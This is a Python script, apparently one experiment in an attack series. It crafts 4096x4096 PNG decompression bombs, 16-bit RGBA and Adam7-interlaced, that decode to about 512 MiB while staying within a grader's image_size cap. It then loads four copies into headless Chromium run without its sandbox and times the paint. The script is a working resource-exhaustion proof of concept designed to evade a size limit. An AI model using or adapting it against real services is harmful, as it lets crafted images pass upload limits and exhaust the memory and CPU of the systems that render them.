"""a07: within the caps as the check reads them: four 4096 x 4096 PNGs (64 Mpx, the notebook's budget) of 16-bit
RGBA, Adam7-interlaced (8 bytes a pixel, 512 MiB decoded), against four 1-bit ones: what painting costs Chromium."""
import base64, struct, sys, time, zlib, subprocess
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..")))); sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from grader.feedback import image_size
from pngbomb import chunk
from playwright.sync_api import sync_playwright

def png(w, h, depth, color, interlace):
    bpp = {0: 1, 6: 4}[color] * depth
    ihdr = chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, depth, color, 0, 0, interlace))
    co = zlib.compressobj(9)
    if interlace:  # Adam7: 7 passes, each of its own rows; a stream of zeros of the total length is close enough
        passes = [(8, 8, 0, 0), (8, 8, 4, 0), (4, 8, 0, 4), (4, 4, 2, 0), (2, 4, 0, 2), (2, 2, 1, 0), (1, 2, 0, 1)]
        data = []
        for dx, dy, x0, y0 in passes:
            pw, ph = (w - x0 + dx - 1) // dx, (h - y0 + dy - 1) // dy
            row = b"\x00" + bytes((pw * bpp + 7) // 8)
            for _ in range(ph):
                data.append(co.compress(row))
    else:
        row = b"\x00" + bytes((w * bpp + 7) // 8); data = [co.compress(row) for _ in range(h)]
    data.append(co.flush())
    return b"\x89PNG\r\n\x1a\n" + ihdr + chunk(b"IDAT", b"".join(data)) + chunk(b"IEND", b"")

ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"]
for label, args in [("1-bit gray", (1, 0, 0)), ("16-bit RGBA interlaced", (16, 6, 1))]:
    t = base64.b64encode(png(4096, 4096, *args)).decode()
    print(label, "base64 chars", len(t), "check", image_size("image/png", t), flush=True)
    open("/tmp/attack42-root-img/d.html", "w").write("".join(f'<img src="data:image/png;base64,{t}"><br>' for _ in range(4)))
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=ARGS)
        pg = b.new_page(viewport={"width": 1280, "height": 800})
        pg.goto("file:///tmp/attack42-root-img/d.html")
        t0 = time.time(); times = []
        for i in range(4):
            s = time.time(); pg.evaluate(f"() => document.images[{i}].scrollIntoView()")
            pg.screenshot(path="/tmp/attack42-root-img/d.png", timeout=300000); times.append(round(time.time() - s, 1))
        b.close()
    print("  paint seconds each", times, flush=True)
